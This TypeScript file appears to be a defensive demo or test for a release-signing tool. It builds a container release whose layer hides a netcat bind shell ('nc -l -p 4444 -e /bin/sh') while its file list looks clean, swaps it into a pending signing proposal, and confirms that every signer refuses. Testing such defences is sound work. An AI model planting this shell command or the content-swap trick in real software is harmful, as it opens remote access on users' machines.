/**
 * The builder that lies about its file tree: a back door in the layer, the honest file list beside
 * it. First the project's own tools are given it; then the server, the builder's accomplice, hands
 * it to the signers as what they are waiting for.
 */
import { hash } from 'node:crypto'
import { readFile, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { makeFolders } from '@seaworthy/oci/folders'
import { createLayout } from '@seaworthy/oci/layout'
import type { ImageLayout } from '@seaworthy/oci/layout'
import { craftLayer, craftRelease } from '@seaworthy/oci/crafted-release'
import { parseAnyJsonText } from '@seaworthy/std/json'
import type { Proposal, PublishedContent } from '@seaworthy/trust/tuf'
import {
  buildProposal,
  formatProposal,
  parseProposal,
  verifyChain,
  wireJson,
} from '@seaworthy/trust/tuf'
import { CliError, reportIt } from '../../failure.ts'
import type { DemoApplication } from './applications.ts'
import type { People, Person } from './people.ts'
import type { Story } from './scene.ts'
import { channel } from './scene.ts'

const code = 'file_list_mismatch'
const version = '9.9.9'
const platform = `linux/${process.arch === 'x64' ? 'amd64' : 'arm64'}`
const honest = [
  { path: 'bin/app', content: '#!/bin/sh\nexec sleep 3600\n', isExecutable: true },
  { path: 'seaworthy.json', content: '{"start":["./bin/app"]}\n' },
]
const backDoored = [
  { ...honest[0]!, content: '#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\nexec sleep 3600\n' },
  honest[1]!,
]

/** Throws when anybody takes the release, or a signer signs it. */
export async function attackSigners(
  { stage, folder, context }: Story,
  { owner, signers }: People,
  { product }: DemoApplication,
): Promise<void> {
  const layout = await createLayout(join(folder, 'lying-release'), context.ports.random)
  const content = await craftLie(layout, product)
  await stage.step('offer it for registration, which is refused', () =>
    requireRefusal(owner, [
      ...['release', 'create', product, version],
      ...['--platform', platform, '--from', `oci:${layout.path}:${version}`],
    ]),
  )
  const proposal = await stage.step('put it into a proposal that signers wait for', async () => {
    const open = await proposeHonestly(owner, join(folder, 'honest-release'), product)
    const file = join(folder, 'lying-proposal.json')
    await writeFile(file, formatProposal(await swapContent(open.exported, content)))
    return { ...open, file }
  })
  const status = parseAnyJsonText(await owner.seaworthy('--json', 'trust', 'status')) as {
    anchor: string
  }
  for (const signer of signers) {
    const sign = ['proposal', 'sign', proposal.file, '--key', signer.keyFile]
    const more = ['--root', `sha256:${status.anchor}`, '--content', layout.path]
    await requireRefusal(signer, [...sign, ...more])
    stage.device(signer.name, 'good', `does not sign: ${code}`)
  }
  await owner.seaworthy('proposal', 'reject', proposal.id, '--reason', 'it was for the demo')
}

/** The layer has the back door; the list beside it does not. */
async function craftLie(layout: ImageLayout, product: string): Promise<PublishedContent> {
  const bundle = {
    platform,
    layer: craftLayer(backDoored).layer,
    listed: craftLayer(honest).files,
  }
  const { bytes, descriptor } = await craftRelease(layout, { product, version, bundles: [bundle] })
  await layout.writeIndex([{ descriptor, name: version }])
  return {
    product,
    channel,
    version,
    kind: 'bundle',
    platforms: [platform],
    hardware: [],
    security: false,
    floor: 0,
    length: bytes.length,
    sha256: hash('sha256', bytes, 'hex'),
    sha512: hash('sha512', bytes, 'hex'),
  }
}

async function proposeHonestly(
  owner: Person,
  folder: string,
  product: string,
): Promise<{ id: string; exported: Proposal }> {
  for (const { path, content, isExecutable } of honest) {
    makeFolders(dirname(join(folder, path)))
    await writeFile(join(folder, path), content, { mode: isExecutable ? 0o755 : 0o644 })
  }
  await owner.seaworthy(
    ...['release', 'create', product, version, '--platform', platform, '--from', folder],
  )
  const proposed = await owner.seaworthy(
    ...['--json', 'publish', product, version, '--channel', channel],
  )
  const { id } = parseAnyJsonText(proposed) as { id: string }
  const file = `${folder}.proposal.json`
  await owner.seaworthy('proposal', 'export', id, '-o', file)
  return { id, exported: await parseProposal(await readFile(file)) }
}

/**
 * Does what a hostile server can do with an open proposal: the same id, name and chain, other
 * content.
 */
async function swapContent(exported: Proposal, content: PublishedContent): Promise<Proposal> {
  const { chain } = exported
  if (chain === undefined)
    throw new CliError('failed', 'the proposal carries no chain', { wayOut: reportIt })
  const current = await verifyChain(wireJson(chain.roots[0]!), chain)
  const { id } = exported
  const now = new Date(exported.createdAt)
  return { ...(await buildProposal({ kind: 'publish', content }, current, { id, now })), chain }
}

async function requireRefusal(person: Person, args: readonly string[]): Promise<void> {
  try {
    await person.seaworthy(...args)
  } catch (error) {
    if (error instanceof Error && error.message.includes(`(${code})`)) return
    throw error
  }
  throw new CliError('refused', `nobody minded: seaworthy ${args.slice(0, 2).join(' ')}`, {
    wayOut: reportIt,
  })
}
